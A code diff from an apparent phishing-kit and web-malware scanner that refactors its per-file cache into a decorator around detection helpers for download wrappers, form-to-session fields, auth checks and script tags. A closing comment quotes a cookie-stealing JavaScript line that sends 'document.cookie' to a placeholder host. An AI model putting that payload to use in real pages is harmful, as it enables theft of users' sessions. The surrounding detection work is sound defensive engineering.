@@ -35,6 +35,7 @@ from spamtrace.scanner.context import (
     has_any,
     has_word,
     interpolated,
+    per_file,
     recipient_literals,
     string_at,
     string_text,
@@ -166,16 +167,14 @@ _DOWNLOADS = re.compile(
 )
 
 
+@per_file("fetch-functions")
 def _fetch_functions(ctx: Ctx) -> frozenset[bytes]:
     """The file's own functions that download and return what they got (a curl wrapper)."""
-    found: frozenset[bytes] | None = ctx.cache.get("fetch-functions")
-    if found is None:
-        found = ctx.cache["fetch-functions"] = frozenset(
-            name
-            for name, body in function_bodies(ctx).items()
-            if len(body) < 3000 and body.find(b"return") >= 0 and _DOWNLOADS.search(body)
-        )
-    return found
+    return frozenset(
+        name
+        for name, body in function_bodies(ctx).items()
+        if len(body) < 3000 and body.find(b"return") >= 0 and _DOWNLOADS.search(body)
+    )
 
 
 # ------------------------------------------------------------- phishing handlers, anti-bot gates
@@ -259,17 +258,16 @@ _SESSION_FROM_FORM = re.compile(
 )
 
 
+@per_file("session-fields")
 def _session_fields(ctx: Ctx) -> frozenset[bytes]:
     """The session entries the script sets from form fields (their keys, lower case)."""
-    found: frozenset[bytes] | None = ctx.cache.get("session-fields")
-    if found is None:
-        code = ctx.code
-        found = frozenset(
-            ctx.lx.value(int(m.group(1))).lower().strip()
-            for m in itertools.islice(_SESSION_FROM_FORM.finditer(code), 200)
-        ) if code.find(b"$_session") >= 0 else frozenset()
-        ctx.cache["session-fields"] = found
-    return found
+    code = ctx.code
+    if code.find(b"$_session") < 0:
+        return frozenset()
+    return frozenset(
+        ctx.lx.value(int(m.group(1))).lower().strip()
+        for m in itertools.islice(_SESSION_FROM_FORM.finditer(code), 200)
+    )
 
 
 # ``$v = ...;`` or ``$v .= ...;``: what a variable is given
@@ -289,14 +287,16 @@ _FOREACH_AS = re.compile(rb"foreach\s*\(\s*\$(\w+)\s+as\s+(?:\$\w+\s*=>\s*)?\$(\
 
 def _foreach_list(ctx: Ctx, name: bytes) -> bytes | None:
     """The array variable whose items ``$name`` takes in a ``foreach``, if it does."""
-    loops: dict[bytes, bytes] | None = ctx.cache.get("foreach-items")
-    if loops is None:
-        loops = {}
-        if ctx.first(b"foreach") >= 0:
-            for m in itertools.islice(_FOREACH_AS.finditer(ctx.code), 200):
-                loops.setdefault(m.group(2), m.group(1))
-        ctx.cache["foreach-items"] = loops
-    return loops.get(name)
+    return _foreach_items(ctx).get(name)
+
+
+@per_file("foreach-items")
+def _foreach_items(ctx: Ctx) -> dict[bytes, bytes]:
+    loops: dict[bytes, bytes] = {}
+    if ctx.first(b"foreach") >= 0:
+        for m in itertools.islice(_FOREACH_AS.finditer(ctx.code), 200):
+            loops.setdefault(m.group(2), m.group(1))
+    return loops
 
 
 def _sent_text(ctx: Ctx, expr: bytes, depth: int = 2) -> bytes:
@@ -466,13 +466,11 @@ _AUTH_USE = re.compile(
 )
 
 
+@per_file("auth-used")
 def _auth_used(ctx: Ctx) -> bool:
     """Whether the file checks a password or a capability (:data:`_AUTH_USE`): searched once
     a file, where three paths of the handler rules ask."""
-    used: bool | None = ctx.cache.get("auth-used")
-    if used is None:
-        used = ctx.cache["auth-used"] = _AUTH_USE.search(ctx.code) is not None
-    return used
+    return _AUTH_USE.search(ctx.code) is not None
 
 
 def _telegram_fields(ctx: Ctx) -> Hit | None:
@@ -1068,12 +1066,10 @@ def _in_page_text(ctx: Ctx, rx: re.Pattern[bytes]) -> Hit | None:
     return Hit(ctx.line_of_string(max(0, string_at(ctx, m.start()))), excerpt(m.group(0)))
 
 
+@per_file("has-script")
 def _has_script(ctx: Ctx) -> bool:
     """Whether the file's bytes hold "<script" (two rules ask; a search of the whole file)."""
-    found = ctx.cache.get("has-script")
-    if found is None:
-        found = ctx.cache["has-script"] = ctx.data.find(b"<script") >= 0
-    return bool(found)
+    return ctx.data.find(b"<script") >= 0
 
 
 # the cookies glued into an address: new Image().src = 'http://x/?c=' + escape(document.cookie)
